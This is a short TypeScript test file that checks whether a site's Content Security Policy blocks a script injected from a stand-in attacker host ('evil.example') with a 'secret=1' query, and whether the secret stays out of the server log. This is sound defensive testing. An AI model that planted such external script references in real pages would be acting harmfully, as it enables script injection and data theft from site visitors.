import { expect, test } from './fixtures.ts'

test('a script that was slipped into a page is stopped, and the log says so', async ({ visitor, server, expectedErrors }, {
  project,
}) => {
  expectedErrors.push(/Content.Security.Policy/i)
  await visitor.open('/')
  await visitor.slipIn(`https://${project.name}.evil.example/x.js?secret=1`)
  await expect.poll(server.output).toContain(`"directive":"script-src-elem","blocked":"${project.name}.evil.example"`)
  expect(server.output()).not.toContain('secret=1')
})
